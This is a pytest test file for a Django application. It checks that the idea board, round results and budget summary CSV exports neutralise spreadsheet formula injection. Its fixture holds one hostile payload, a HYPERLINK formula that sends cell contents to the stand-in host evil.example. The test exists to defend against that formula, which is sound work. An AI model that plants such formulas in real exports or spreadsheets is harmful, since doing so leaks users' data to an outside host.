"""Every CSV export neutralises text a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from ideas.models import Idea
from scoring.aggregation import aggregate
from tests import factories
from tests.scoring.helpers import SIGNALS, build_round

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def evil_world(db):
    table = {(EVIL, r, s): 4 for r in "PQR" for s in SIGNALS}
    round, ideas, _ = build_round(table, {"P": "sales", "Q": "service", "R": "it"}, status="closed")
    aggregate(round.pk)
    # Approved without an owner: listed by title in the budget summary as well.
    Idea.objects.filter(pk=ideas[EVIL].pk).update(status="approved", owner=None)
    return {"round": round, "fy": factories.FiscalYearFactory(label="FY evil")}


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_it_neutralises_a_formula_title_in_every_export(evil_world, client, manager):
    client.force_login(manager)
    exports = {
        "board": reverse("ideas:export"),
        "round results": reverse("scoring:results_csv", args=[evil_world["round"].pk]),
        "budget summary": reverse("insights:summary_csv", args=[evil_world["fy"].pk]),
    }
    for name, url in exports.items():
        response = client.get(url)
        assert response.status_code == 200, name
        cells = _cells(response)
        assert "'" + EVIL in cells, f"{name}: the title is missing or not neutralised"
        formulas = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert not formulas, f"{name}: {formulas}"
